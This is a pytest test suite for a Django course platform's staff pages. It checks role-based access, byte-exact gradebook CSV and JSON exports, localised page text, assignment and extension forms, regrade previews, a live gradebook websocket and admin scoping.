"""A course run's staff pages as people reach them: who may open each (the authorisation matrix,
pages and the live gradebook websocket), what the exports contain byte for byte, the pages'
words, and the gradebook row that arrives live when a student's submission is graded by the
real worker."""

from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import websockets
from django.conf import settings
from django.test import Client
from django.utils import timezone, translation

from courses.models import Membership
from labs import selectors, services
from labs.models import Assignment, Extension, Regrade, RegradeItem, Submission
from tests.conftest import Stack, session_cookie, wait_finished
from tests.factories import (
    AssignmentFactory,
    CourseRunFactory,
    ExerciseFactory,
    MembershipFactory,
    SubmissionFactory,
    UserFactory,
)

Role = Membership.Role
Status = Submission.Status

ROLES = ["anonymous", "other_instructor", "other_student", "student", "assistant", "instructor"]


@pytest.fixture(autouse=True)
def _english():  # type: ignore[no-untyped-def]
    with translation.override("en"):
        yield


@dataclass
class World:
    run: Any
    other_run: Any
    assignment: Assignment
    exercise: Any
    users: dict[str, Any]
    submission: Submission  # the student's, for the assignment
    practice: Submission  # the student's practice on the run's course
    extension: Extension
    regrade: Regrade


def make_world() -> World:
    exercise = ExerciseFactory(slug="python-slim", title="Slim Python image")
    run = CourseRunFactory(course=exercise.course, slug="spring", title="Spring 2027")
    other_run = CourseRunFactory(course=exercise.course, slug="autumn", title="Autumn 2027")
    users = {
        "instructor": MembershipFactory(
            run=run, role=Role.INSTRUCTOR, user=UserFactory(username="ingrid")
        ).user,
        "assistant": MembershipFactory(run=run, role=Role.ASSISTANT, user=UserFactory(username="arne")).user,
        "student": MembershipFactory(run=run, user=UserFactory(username="alice")).user,
        "other_student": MembershipFactory(run=run, user=UserFactory(username="bob")).user,
        "other_instructor": MembershipFactory(
            run=other_run, role=Role.INSTRUCTOR, user=UserFactory(username="olga")
        ).user,
    }
    assignment = AssignmentFactory(run=run, title="Week 2", exercises=[exercise], max_attempts=3)
    submission = SubmissionFactory(
        owner=users["student"], exercise=exercise, assignment=assignment, status=Status.DONE, score=80.0
    )
    practice = SubmissionFactory(owner=users["student"], exercise=exercise, status=Status.DONE, score=40.0)
    extension = Extension.objects.create(
        assignment=assignment, user=users["student"], due_at=assignment.due_at + timedelta(days=1)
    )
    regrade = Regrade.objects.create(assignment=assignment, status=Regrade.Status.READY)
    RegradeItem.objects.create(
        regrade=regrade,
        submission=submission,
        status=RegradeItem.Status.DONE,
        old_score=80.0,
        new_status=Status.DONE,
        new_score=90.0,
    )
    return World(run, other_run, assignment, exercise, users, submission, practice, extension, regrade)


@pytest.fixture
def world(db: None) -> World:
    return make_world()


def client_for(world: World, role: str) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    if role != "anonymous":
        client.force_login(world.users[role])
    return client


def local(world: World, when: datetime) -> str:
    return when.astimezone(world.run.tz).strftime("%Y-%m-%dT%H:%M")


def assignment_post(world: World) -> dict[str, Any]:
    now = timezone.now()
    return {
        "title": "Week 3",
        "title_en": "",
        "exercises": [world.exercise.pk],
        "opens_at": local(world, now),
        "due_at": local(world, now + timedelta(days=7)),
        "late_until": "",
        "late_penalty": "per_day",
        "late_penalty_percent": "10",
        "late_penalty_cap_percent": "",
        "max_attempts": "5",
        "min_interval_seconds": "0",
        "counting": "best",
    }


def extension_post(world: World) -> dict[str, Any]:
    bob = Membership.objects.get(run=world.run, user=world.users["other_student"])
    return {
        "student": bob.pk,
        "due_at": local(world, world.assignment.due_at + timedelta(days=2)),
        "late_until": "",
        "extra_attempts": "1",
        "reason": "ill",
    }


A = "/runs/spring/assignments/{a}/"
# (name, method, path, data, assistant's status, instructor's status)
PAGES: list[tuple[str, str, str, Any, int, int]] = [
    ("dashboard", "get", "/runs/spring/", None, 200, 200),
    ("assignment_create", "get", "/runs/spring/assignments/new/", None, 403, 200),
    ("assignment_create_post", "post", "/runs/spring/assignments/new/", assignment_post, 403, 302),
    ("assignment_edit", "get", A + "edit/", None, 403, 200),
    ("assignment_edit_post", "post", A + "edit/", assignment_post, 403, 302),
    ("extensions", "get", A + "extensions/", None, 200, 200),
    ("extensions_post", "post", A + "extensions/", extension_post, 302, 302),
    ("extension_revoke", "post", A + "extensions/{e}/remove/", {}, 302, 302),
    ("gradebook", "get", A + "gradebook/", None, 200, 200),
    ("gradebook_student", "get", A + "gradebook/students/{s}/", None, 200, 200),
    ("gradebook_csv", "get", A + "gradebook.csv", None, 200, 200),
    ("gradebook_json", "get", A + "gradebook.json", None, 200, 200),
    ("submissions", "get", "/runs/spring/submissions/", None, 200, 200),
    ("exercise_stats", "get", "/runs/spring/exercises/{x}/", None, 200, 200),
    ("regrade_start", "post", A + "regrades/", {"reason": "weights"}, 403, 302),
    ("regrade", "get", A + "regrades/{r}/", None, 200, 200),
    ("regrade_progress", "get", A + "regrades/{r}/progress/", None, 200, 200),
    ("regrade_apply", "post", A + "regrades/{r}/apply/", {}, 403, 302),
]


def expected_status(role: str, assistant: int, instructor: int) -> int:
    return {
        "anonymous": 302,
        "other_instructor": 404,
        "other_student": 404,
        "student": 404,
        "assistant": assistant,
        "instructor": instructor,
    }[role]


def fill(world: World, path: str) -> str:
    return path.format(
        a=world.assignment.pk,
        e=world.extension.pk,
        s=world.users["student"].pk,
        x=world.exercise.pk,
        r=world.regrade.pk,
    )


@pytest.mark.django_db
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize(
    ("name", "method", "path", "data", "assistant", "instructor"), PAGES, ids=[p[0] for p in PAGES]
)
def test_each_staff_page_answers_each_role_with_its_status(
    world: World, role: str, name: str, method: str, path: str, data: Any, assistant: int, instructor: int
) -> None:
    url = fill(world, path)
    client = client_for(world, role)
    if method == "get":
        response = client.get(url)
    else:
        response = client.post(url, data(world) if callable(data) else data)
    expected = expected_status(role, assistant, instructor)
    assert response.status_code == expected, response.content.decode()[:1500]
    if expected == 302 and role == "anonymous":
        assert response["Location"] == f"/login/?next={url}"


SUBMISSION_PAGE = {
    "anonymous": 302,
    "other_instructor": 404,
    "other_student": 404,
    "student": 200,
    "assistant": 200,
    "instructor": 200,
}


@pytest.mark.django_db
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("which", ["submission", "practice"])
def test_the_submission_page_opens_for_its_owner_and_the_runs_staff_only(
    world: World, role: str, which: str
) -> None:
    submission = getattr(world, which)
    response = client_for(world, role).get(f"/labs/submissions/{submission.pk}/")
    assert response.status_code == SUBMISSION_PAGE[role]


def test_staff_of_a_run_see_nothing_of_another_runs_submissions(world: World) -> None:
    """Same course, other run: its assignment's submissions and its own students' practice."""
    autumn_student = MembershipFactory(run=world.other_run, user=UserFactory(username="carol")).user
    autumn = AssignmentFactory(run=world.other_run, exercises=[world.exercise])
    theirs = SubmissionFactory(owner=autumn_student, exercise=world.exercise, assignment=autumn)
    their_practice = SubmissionFactory(owner=autumn_student, exercise=world.exercise)
    instructor = client_for(world, "instructor")
    assert instructor.get(f"/labs/submissions/{theirs.pk}/").status_code == 404
    assert instructor.get(f"/labs/submissions/{their_practice.pk}/").status_code == 404
    olga = client_for(world, "other_instructor")
    assert olga.get(f"/labs/submissions/{theirs.pk}/").status_code == 200
    assert olga.get(f"/labs/submissions/{world.submission.pk}/").status_code == 404
    listed = instructor.get("/runs/spring/submissions/").content.decode()
    assert f'data-submission-id="{world.submission.pk}"' in listed
    assert f'data-submission-id="{world.practice.pk}"' in listed
    assert f'data-submission-id="{theirs.pk}"' not in listed
    assert f'data-submission-id="{their_practice.pk}"' not in listed


def test_an_assignment_or_exercise_of_another_run_or_course_is_a_404_for_this_runs_staff(
    world: World,
) -> None:
    autumn = AssignmentFactory(run=world.other_run, exercises=[world.exercise])
    elsewhere = ExerciseFactory()
    client = client_for(world, "instructor")
    assert client.get(f"/runs/spring/assignments/{autumn.pk}/gradebook/").status_code == 404
    assert client.get(f"/runs/spring/assignments/{autumn.pk}/gradebook.csv").status_code == 404
    assert client.get(f"/runs/spring/exercises/{elsewhere.pk}/").status_code == 404
    bob = world.users["other_student"]
    assert (
        client.get(f"/runs/spring/assignments/{world.assignment.pk}/gradebook/students/{bob.pk}/").status_code
        == 200
    )
    assert (
        client.get(
            f"/runs/spring/assignments/{world.assignment.pk}/gradebook/students/{world.users['instructor'].pk}/"
        ).status_code
        == 404
    )


# Exports ------------------------------------------------------------------------------------


@pytest.fixture
def book_world(db: None) -> tuple[Any, Assignment]:
    """Two exercises; 김민수 on time, O"Brien, Pat one day late (10 % a day), 이서연 nothing."""
    first = ExerciseFactory(slug="build-a")
    second = ExerciseFactory(slug="build-b", session=first.session, course=first.course)
    run = CourseRunFactory(course=first.course, slug="spring")
    instructor = MembershipFactory(run=run, role=Role.INSTRUCTOR).user
    now = timezone.now()
    assignment = AssignmentFactory(
        run=run,
        exercises=[first, second],
        opens_at=now - timedelta(days=3),
        due_at=now - timedelta(hours=1),
        late_until=now + timedelta(days=2),
        late_penalty_percent=10,
        max_attempts=3,
    )
    kim = MembershipFactory(
        run=run, user=UserFactory(username="kim", first_name="김민수", email="kim@example.org")
    ).user
    pat = MembershipFactory(
        run=run, user=UserFactory(username="pat", first_name='O"Brien, Pat', email="pat@example.org")
    ).user
    MembershipFactory(run=run, user=UserFactory(username="seo", first_name="이서연", email=""))
    on_time = SubmissionFactory(
        owner=kim, exercise=first, assignment=assignment, status=Status.DONE, score=80.0
    )
    Submission.objects.filter(pk=on_time.pk).update(created_at=now - timedelta(hours=2))
    SubmissionFactory(owner=kim, exercise=first, assignment=assignment, status=Status.ERROR)
    SubmissionFactory(owner=pat, exercise=second, assignment=assignment, status=Status.DONE, score=90.0)
    SubmissionFactory(owner=pat, exercise=second, assignment=assignment, status=Status.FAILED)
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(instructor)
    return client, assignment


def test_the_csv_export_is_utf8_with_a_bom_one_row_per_student_quoting_commas_and_quotes(book_world) -> None:
    client, assignment = book_world
    response = client.get(f"/runs/spring/assignments/{assignment.pk}/gradebook.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="spring-assignment-{assignment.pk}-gradebook.csv"'
    )
    expected = (
        "\ufeff"
        "username,name,email,build-a score,build-a attempts,build-a late,"
        "build-b score,build-b attempts,build-b late,total\r\n"
        "kim,김민수,kim@example.org,80.0,1,no,,0,no,40.0\r\n"
        'pat,"O""Brien, Pat",pat@example.org,,0,no,81.0,2,yes,40.5\r\n'
        "seo,이서연,,,0,no,,0,no,0.0\r\n"
    ).encode()
    assert response.content == expected
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_the_json_export_names_the_assignment_exercises_and_each_students_cells(book_world) -> None:
    client, assignment = book_world
    response = client.get(f"/runs/spring/assignments/{assignment.pk}/gradebook.json")
    assert response.status_code == 200
    doc = json.loads(response.content.decode("utf-8"))
    a, b = (item.exercise for item in assignment.items.order_by("position"))
    assert doc["assignment"]["id"] == assignment.pk
    assert doc["assignment"]["run"] == "spring"
    assert doc["assignment"]["time_zone"] == "Asia/Seoul"
    assert doc["assignment"]["counting"] == "best"
    assert doc["assignment"]["max_attempts"] == 3
    assert doc["exercises"] == [
        {"id": a.pk, "slug": "build-a", "title": a.title, "title_en": ""},
        {"id": b.pk, "slug": "build-b", "title": b.title, "title_en": ""},
    ]
    assert [s["username"] for s in doc["students"]] == ["kim", "pat", "seo"]
    pat = doc["students"][1]
    assert pat["name"] == 'O"Brien, Pat'
    assert pat["total"] == 40.5
    assert pat["late"] is True
    pats_best = Submission.objects.get(owner__username="pat", status=Status.DONE)
    assert pat["cells"] == [
        {
            "exercise_id": a.pk,
            "exercise": "build-a",
            "score": None,
            "raw_score": None,
            "penalty_percent": 0.0,
            "late": False,
            "attempts": 0,
            "pending": False,
            "submission_id": None,
        },
        {
            "exercise_id": b.pk,
            "exercise": "build-b",
            "score": 81.0,
            "raw_score": 90.0,
            "penalty_percent": 10.0,
            "late": True,
            "attempts": 2,
            "pending": False,
            "submission_id": pats_best.pk,
        },
    ]
    assert "김민수" in response.content.decode("utf-8")  # not escaped to \uXXXX


# Pages' words -------------------------------------------------------------------------------


def test_the_dashboard_shows_state_in_the_runs_zone_progress_roster_size_and_the_code(world: World) -> None:
    world.run.invitation_code = "KQ7MX3PA"
    world.run.save()
    due = datetime(2030, 3, 1, 14, 30, tzinfo=UTC)  # 23:30 in Seoul
    Assignment.objects.filter(pk=world.assignment.pk).update(due_at=due)
    SubmissionFactory(
        owner=world.users["other_student"],
        exercise=world.exercise,
        assignment=world.assignment,
        status=Status.DONE,
        score=59.9,
    )
    page = client_for(world, "assistant").get("/runs/spring/").content.decode()
    assert "2 students" in page
    assert 'data-role="invitation-code">KQ7MX3PA<' in page
    assert "2030-03-01 23:30" in page
    assert '<span class="status phase-open">Open</span>' in page
    assert "<span>1 of 2</span>" in page  # alice's 80 passes, bob's 59.9 does not
    assert "2 with a graded attempt" in page
    assert "New assignment" not in page  # an assistant cannot create one


def test_an_instructor_creates_an_assignment_with_local_times_stored_in_utc(world: World) -> None:
    second = ExerciseFactory(slug="go-scratch", session=world.exercise.session, course=world.exercise.course)
    client = client_for(world, "instructor")
    data = assignment_post(world) | {
        "exercises": [second.pk, world.exercise.pk],
        "opens_at": "2030-03-01T09:00",
        "due_at": "2030-03-08T23:59",
        "late_until": "2030-03-10T23:59",
        "late_penalty_cap_percent": "30",
        "min_interval_seconds": "600",
        "counting": "last",
    }
    response = client.post("/runs/spring/assignments/new/", data)
    created = Assignment.objects.get(title="Week 3")
    assert response.status_code == 302
    assert response["Location"] == f"/runs/spring/assignments/{created.pk}/gradebook/"
    assert created.run == world.run
    assert created.opens_at == datetime(2030, 3, 1, 0, 0, tzinfo=UTC)
    assert created.due_at == datetime(2030, 3, 8, 14, 59, tzinfo=UTC)
    assert created.late_until == datetime(2030, 3, 10, 14, 59, tzinfo=UTC)
    assert (created.max_attempts, created.min_interval_seconds, created.counting) == (5, 600, "last")
    assert str(created.late_penalty_cap_percent) == "30.00"
    # Stored in the course's order, whatever order the boxes were ticked in.
    assert [i.exercise.slug for i in created.items.order_by("position")] == sorted(
        [second.slug, world.exercise.slug], key=lambda s: [world.exercise.slug, second.slug].index(s)
    )
    form = client.get(f"/runs/spring/assignments/{created.pk}/edit/").content.decode()
    assert 'value="2030-03-08T23:59"' in form


def test_a_local_time_the_zone_skips_is_refused_not_guessed(world: World) -> None:
    world.run.time_zone = "America/New_York"
    world.run.save()
    client = client_for(world, "instructor")
    data = assignment_post(world) | {"opens_at": "2030-03-01T09:00", "due_at": "2030-03-10T02:30"}
    response = client.post("/runs/spring/assignments/new/", data)
    assert response.status_code == 400
    assert (
        "2030-03-10 02:30:00 couldn\u2019t be interpreted in time zone America/New_York"
        in response.content.decode()
    )
    assert not Assignment.objects.filter(title="Week 3").exists()


def test_the_form_says_when_the_due_time_is_not_after_the_opening(world: World) -> None:
    data = assignment_post(world) | {"opens_at": "2030-03-02T09:00", "due_at": "2030-03-01T09:00"}
    response = client_for(world, "instructor").post("/runs/spring/assignments/new/", data)
    assert response.status_code == 400
    assert "The due time must come after the opening time." in response.content.decode()


def test_an_exercise_with_submissions_stays_in_its_assignment(world: World) -> None:
    other = ExerciseFactory(slug="go-scratch", session=world.exercise.session, course=world.exercise.course)
    data = assignment_post(world) | {"exercises": [other.pk]}
    response = client_for(world, "instructor").post(
        f"/runs/spring/assignments/{world.assignment.pk}/edit/", data
    )
    assert response.status_code == 400
    assert (
        "“Slim Python image” has submissions for this assignment; it stays in it."
        in response.content.decode()
    )
    assert [i.exercise_id for i in world.assignment.items.all()] == [world.exercise.pk]


def test_an_assistant_grants_an_extension_and_the_gradebook_marks_it(world: World) -> None:
    client = client_for(world, "assistant")
    response = client.post(
        f"/runs/spring/assignments/{world.assignment.pk}/extensions/", extension_post(world)
    )
    assert response.status_code == 302
    ext = Extension.objects.get(user=world.users["other_student"])
    assert ext.due_at == (world.assignment.due_at + timedelta(days=2)).replace(second=0, microsecond=0)
    assert (ext.extra_attempts, ext.reason) == (1, "ill")
    page = client.get(response["Location"]).content.decode()
    assert "Extension for bob saved." in page
    book = client.get(f"/runs/spring/assignments/{world.assignment.pk}/gradebook/").content.decode()
    bob_row = book.split('data-username="bob"')[1].split("</tr>")[0]
    assert "extension" in bob_row


def test_the_gradebook_row_shows_score_attempts_late_penalty_and_total(book_world) -> None:
    client, assignment = book_world
    page = client.get(f"/runs/spring/assignments/{assignment.pk}/gradebook/").content.decode()
    pat = page.split('data-username="pat"')[1].split("</tr>")[0]
    assert '<span class="score" data-role="score">—</span>' in pat
    assert '<span class="score" data-role="score">81.0</span>' in pat
    assert '<span class="meta" data-role="attempts">2/3 attempts</span>' in pat
    assert '<span class="tag tag-late" data-role="late">late \u221210%</span>' in pat
    assert '<td class="total" data-role="total">40.5</td>' in pat
    assert f'data-ws-path="/ws/runs/spring/assignments/{assignment.pk}/gradebook/"' in page


def test_the_students_detail_links_each_attempt_and_marks_the_counted_one(book_world) -> None:
    client, assignment = book_world
    pat = Submission.objects.filter(owner__username="pat").order_by("id")
    url = f"/runs/spring/assignments/{assignment.pk}/gradebook/students/{pat[0].owner_id}/"
    page = client.get(url).content.decode()
    assert "Total: 40.5" in page
    for s in pat:
        assert f'<a href="/labs/submissions/{s.pk}/">#{s.pk}</a>' in page
    counted = page.split(f'data-submission-id="{pat[0].pk}"')[1].split("</tr>")[0]
    assert "81.0" in counted and "(before penalty 90.0)" in counted and "<strong>counts</strong>" in counted
    failed = page.split(f'data-submission-id="{pat[1].pk}"')[1].split("</tr>")[0]
    assert "0.0" in failed and "counts</strong>" not in failed


def test_the_submissions_list_filters_by_student_status_score_and_late(book_world) -> None:
    client, _ = book_world
    kim = Submission.objects.filter(owner__username="kim").order_by("id")
    pat = Submission.objects.filter(owner__username="pat").order_by("id")

    def listed(query: str) -> list[int]:
        page = client.get(f"/runs/spring/submissions/?{query}").content.decode()
        return [int(part.split('"')[0]) for part in page.split('data-submission-id="')[1:]]

    assert sorted(listed("")) == sorted(s.pk for s in [*kim, *pat])
    assert listed(f"student={kim[0].owner_id}") == [kim[1].pk, kim[0].pk]
    assert listed("status=failed") == [pat[1].pk]
    assert sorted(listed("score_min=50")) == [kim[0].pk, pat[0].pk]
    assert listed("score_max=10") == [pat[1].pk]  # a failed build scores 0
    assert sorted(listed("late=yes")) == [kim[1].pk, pat[0].pk, pat[1].pk]
    assert listed("late=no") == [kim[0].pk]
    response = client.get("/runs/spring/submissions/?score_min=70&score_max=20")
    assert response.status_code == 400
    assert "The upper score must not be below the lower one." in response.content.decode()


def test_the_submissions_list_is_paginated_keeping_the_filters(world: World) -> None:
    for _ in range(55):
        SubmissionFactory(owner=world.users["other_student"], exercise=world.exercise, status=Status.QUEUED)
    client = client_for(world, "instructor")
    first = client.get("/runs/spring/submissions/?status=queued").content.decode()
    assert "55 submissions" in first and "Page 1 of 2" in first
    assert 'href="?status=queued&amp;page=2"' in first
    second = client.get("/runs/spring/submissions/?status=queued&page=2").content.decode()
    assert second.count('data-submission-id="') == 5


BAR = re.compile(
    r'<tr data-bucket="(\d+)">\s*<th scope="row">([^<]+)</th>\s*'
    r'<td><span class="hbar" style="width: (\d+)%"></span><span class="count">(\d+)</span>'
)


def bars(page: str) -> dict[int, tuple[str, int, int]]:
    return {int(m[1]): (m[2], int(m[3]), int(m[4])) for m in BAR.finditer(page)}


def test_exercise_statistics_bucket_best_scores_and_rank_the_criteria_failed(world: World) -> None:
    fail = {"criterion": "sec.non_root", "verdict": "fail"}
    part = {"criterion": "opt.image_size", "verdict": "partial"}
    ok = {"criterion": "opt.multi_stage", "verdict": "pass"}
    Submission.objects.filter(pk=world.submission.pk).update(results=[fail, part, ok], score=95.0)
    bob = world.users["other_student"]
    bobs = SubmissionFactory(
        owner=bob, exercise=world.exercise, status=Status.DONE, score=35.0, results=[fail, ok]
    )
    SubmissionFactory(owner=bob, exercise=world.exercise, status=Status.FAILED, results=[fail])
    page = client_for(world, "assistant").get(f"/runs/spring/exercises/{world.exercise.pk}/").content.decode()
    assert "2 students, 4 graded submissions." in page  # alice: 95 and 40 (practice); bob: 35 and failed
    assert "Mean 65.0." in page
    assert bars(page) == {
        0: ("0\u20139", 0, 0),
        10: ("10\u201319", 0, 0),
        20: ("20\u201329", 0, 0),
        30: ("30\u201339", 100, 1),  # bob's best: 35
        40: ("40\u201349", 0, 0),
        50: ("50\u201359", 0, 0),
        60: ("60\u201369", 0, 0),
        70: ("70\u201379", 0, 0),
        80: ("80\u201389", 0, 0),
        90: ("90\u2013100", 100, 1),  # alice's best: 95
    }
    rows = page.split("<tr data-criterion=")[1:]
    assert [r.split('"')[1] for r in rows] == ["sec.non_root", "opt.image_size"]
    assert "Runs as non-root in fact" in rows[0]
    assert '<td data-role="failed">3</td>' in rows[0]
    assert '<td data-role="partial">0</td>' in rows[0]
    assert '<td data-role="partial">1</td>' in rows[1]
    # Recent examples first, one per student.
    failed_ones = Submission.objects.filter(owner=bob, status=Status.FAILED).values_list("pk", flat=True)
    assert f'href="/labs/submissions/{failed_ones[0]}/">#{failed_ones[0]} bob</a>' in rows[0]
    assert f'href="/labs/submissions/{bobs.pk}/"' not in rows[0]
    assert f'href="/labs/submissions/{world.submission.pk}/">#{world.submission.pk} alice</a>' in rows[0]


def test_the_regrade_preview_lists_who_goes_up_and_items_that_could_not_be_regraded(world: World) -> None:
    bob = world.users["other_student"]
    bobs = SubmissionFactory(
        owner=bob, exercise=world.exercise, assignment=world.assignment, status=Status.DONE, score=70.0
    )
    RegradeItem.objects.create(
        regrade=world.regrade,
        submission=bobs,
        status=RegradeItem.Status.ERROR,
        old_score=70.0,
        message="could not regrade: engine down",
    )
    page = (
        client_for(world, "instructor")
        .get(f"/runs/spring/assignments/{world.assignment.pk}/regrades/{world.regrade.pk}/")
        .content.decode()
    )
    assert "1 go up, 0 go down, 1 stay the same." in page
    alice = page.split('data-username="alice"')[1].split("</tr>")[0]
    assert "80.0 → 90.0" in alice and '<span class="direction">up</span>' in alice
    bob_row = page.split('data-username="bob"')[1].split("</tr>")[0]
    assert "70.0 → 70.0" in bob_row
    assert f"#{bobs.pk}</a> bob · Slim Python image: could not regrade: engine down" in page
    assert "Apply: give these submissions their new results" in page
    assistant = (
        client_for(world, "assistant")
        .get(f"/runs/spring/assignments/{world.assignment.pk}/regrades/{world.regrade.pk}/")
        .content.decode()
    )
    assert "Apply: give these submissions their new results" not in assistant


def test_the_regrade_progress_endpoint_counts_done_and_errors(world: World) -> None:
    running = Regrade.objects.create(assignment=world.assignment)
    for status in (RegradeItem.Status.DONE, RegradeItem.Status.ERROR, RegradeItem.Status.PENDING):
        RegradeItem.objects.create(regrade=running, submission=SubmissionFactory(), status=status)
    response = client_for(world, "assistant").get(
        f"/runs/spring/assignments/{world.assignment.pk}/regrades/{running.pk}/progress/"
    )
    assert response.json() == {"status": "running", "total": 3, "done": 2, "errors": 1}


def test_pages_speak_korean(world: World) -> None:
    client = client_for(world, "instructor")
    page = client.get("/runs/spring/", HTTP_ACCEPT_LANGUAGE="ko").content.decode()
    assert "과제" in page and "초대 코드" in page and "학생 2명" in page
    book = client.get(
        f"/runs/spring/assignments/{world.assignment.pk}/gradebook/", HTTP_ACCEPT_LANGUAGE="ko"
    ).content.decode()
    assert "성적부" in book and "CSV로 내보내기" in book


# The live gradebook -------------------------------------------------------------------------


WS_EXPECTED = {
    "anonymous": 4401,
    "other_instructor": 4403,
    "other_student": 4403,
    "student": 4403,
    "assistant": "open",
    "instructor": "open",
}


async def _ws_first(url: str, origin: str, cookie: str | None) -> Any:
    headers = {"Cookie": f"{settings.SESSION_COOKIE_NAME}={cookie}"} if cookie else {}
    async with websockets.connect(url, origin=origin, additional_headers=headers) as ws:
        try:
            await ws.send(json.dumps({"type": "resync"}))
            return json.loads(await asyncio.wait_for(ws.recv(), timeout=10))
        except websockets.ConnectionClosed as closed:
            return closed.rcvd.code if closed.rcvd else None


def ws_url(stack: Stack, world: World) -> str:
    return f"{stack.ws_base}/ws/runs/spring/assignments/{world.assignment.pk}/gradebook/?lang=en"


@pytest.mark.docker
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("role", ROLES)
def test_the_gradebook_websocket_answers_each_role(stack: Stack, role: str) -> None:
    world = make_world()
    cookie = None if role == "anonymous" else session_cookie(world.users[role])
    got = asyncio.run(_ws_first(ws_url(stack, world), stack.base_url, cookie))
    if WS_EXPECTED[role] == "open":
        assert (got["type"], got["row"]["username"]) == ("row", "alice")
        assert got["row"]["cells"][0]["score"] == 80.0
    else:
        assert got == WS_EXPECTED[role]


class Listener(threading.Thread):
    """Collects a websocket's messages on its own thread while the test thread writes."""

    def __init__(self, url: str, origin: str, cookie: str) -> None:
        super().__init__(daemon=True)
        self.url, self.origin, self.cookie = url, origin, cookie
        self.messages: list[tuple[float, dict[str, Any]]] = []
        self.ready = threading.Event()
        self.stop = threading.Event()

    def run(self) -> None:
        asyncio.run(self._listen())

    async def _listen(self) -> None:
        headers = {"Cookie": f"{settings.SESSION_COOKIE_NAME}={self.cookie}"}
        async with websockets.connect(self.url, origin=self.origin, additional_headers=headers) as ws:
            self.ready.set()
            while not self.stop.is_set():
                try:
                    raw = await asyncio.wait_for(ws.recv(), timeout=0.5)
                except TimeoutError:
                    continue
                self.messages.append((time.monotonic(), json.loads(raw)))


TINY = 'FROM debian:bookworm-slim\nCMD ["true"]\n'
TINY_RUBRIC = {"criteria": [{"id": "opt.exec_form", "weight": 10}, {"id": "sec.final_user", "weight": 10}]}


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_the_gradebook_receives_the_students_new_row_when_their_submission_is_graded(stack: Stack) -> None:
    world = make_world()
    world.exercise.rubric = TINY_RUBRIC
    world.exercise.save()
    bob = world.users["other_student"]
    listener = Listener(ws_url(stack, world), stack.base_url, session_cookie(world.users["instructor"]))
    listener.start()
    assert listener.ready.wait(10)
    submission = services.submission_create(
        owner=bob, exercise=world.exercise, assignment=world.assignment, dockerfile=TINY
    )
    finished = wait_finished(submission.pk, timeout=180)
    finished_at = time.monotonic()
    assert finished.status == Status.DONE, finished.failure_message
    deadline = time.monotonic() + 10
    row = None
    while time.monotonic() < deadline and row is None:
        for at, msg in listener.messages:
            if msg.get("user_id") == bob.pk and msg["row"]["cells"][0]["submission_id"] == submission.pk:
                row = (at, msg)
        time.sleep(0.05)
    listener.stop.set()
    listener.join(5)
    assert row is not None, [m for _, m in listener.messages]
    msg = row[1]
    assert finished.score == 50.0
    assert msg["row"]["cells"][0]["score"] == 50.0
    assert msg["row"]["cells"][0]["attempts"] == 1
    assert msg["row"]["total"] == 50.0
    assert f'<tr data-user-id="{bob.pk}" data-username="bob">' in msg["html"]
    assert '<span class="score" data-role="score">50.0</span>' in msg["html"]
    assert row[0] - finished_at < 5  # the row came with the grading, not from a poll
    assert selectors.gradebook_for(world.assignment, user_ids=[bob.pk]).rows[0].cells[0].score == 50.0


# Django admin -------------------------------------------------------------------------------

ADMIN_PAGES = [
    "/admin/courses/courserun/",
    "/admin/courses/courserun/?q=spring",
    "/admin/courses/courserun/{run}/change/",
    "/admin/courses/membership/?role__exact=student",
    "/admin/courses/membership/?q=alice",
    "/admin/labs/assignment/",
    "/admin/labs/assignment/?q=Week",
    "/admin/labs/assignment/{a}/change/",
    "/admin/labs/assignment/add/",
    "/admin/labs/submission/?status__exact=done",
    "/admin/labs/submission/?q=alice",
    "/admin/labs/submission/{s}/change/",
    "/admin/labs/regrade/",
    "/admin/labs/regrade/{r}/change/",
]


def admin_path(world: World, path: str) -> str:
    return path.format(run=world.run.pk, a=world.assignment.pk, s=world.submission.pk, r=world.regrade.pk)


@pytest.mark.parametrize("path", ADMIN_PAGES)
def test_the_admin_pages_open_for_a_superuser(world: World, path: str) -> None:
    client = Client()
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    assert client.get(admin_path(world, path)).status_code == 200


def test_the_admin_lists_what_a_superuser_searches_and_filters_for(world: World) -> None:
    client = Client()
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    runs = client.get("/admin/courses/courserun/?q=spring").content.decode()
    assert "Spring 2027" in runs and "Autumn 2027" not in runs
    members = client.get(f"/admin/courses/membership/?role__exact=instructor&run__id__exact={world.run.pk}")
    page = members.content.decode()
    assert "ingrid" in page and "olga" not in page and "alice" not in page
    exercises = client.get(f"/admin/labs/assignment/{world.assignment.pk}/change/").content.decode()
    assert 'name="items-TOTAL_FORMS"' in exercises and 'name="extensions-TOTAL_FORMS"' in exercises


def test_a_staff_account_sees_only_its_own_runs_in_the_admin_and_changes_only_where_it_instructs(
    world: World,
) -> None:
    from django.contrib.auth.models import Permission

    ingrid = world.users["instructor"]
    arne = world.users["assistant"]
    assert not ingrid.is_staff and not arne.is_staff  # a role never makes an admin account
    for user in (ingrid, arne):
        user.is_staff = True
        user.save()
        user.user_permissions.set(
            Permission.objects.filter(
                codename__in=["view_assignment", "change_assignment", "view_courserun", "view_submission"]
            )
        )
    autumn = AssignmentFactory(run=world.other_run, title="Autumn week 1")
    client = Client()
    client.force_login(ingrid)
    listed = client.get("/admin/labs/assignment/").content.decode()
    assert "Week 2" in listed and "Autumn week 1" not in listed
    assert client.get(f"/admin/labs/assignment/{autumn.pk}/change/").status_code == 302  # "does not exist"
    runs = client.get("/admin/courses/courserun/").content.decode()
    assert "Spring 2027" in runs and "Autumn 2027" not in runs
    subs = client.get("/admin/labs/submission/").content.decode()
    assert f'href="/admin/labs/submission/{world.submission.pk}/change/' in subs
    assert f'href="/admin/labs/submission/{world.practice.pk}/change/' in subs
    change = client.get(f"/admin/labs/assignment/{world.assignment.pk}/change/").content.decode()
    assert 'name="_save"' in change
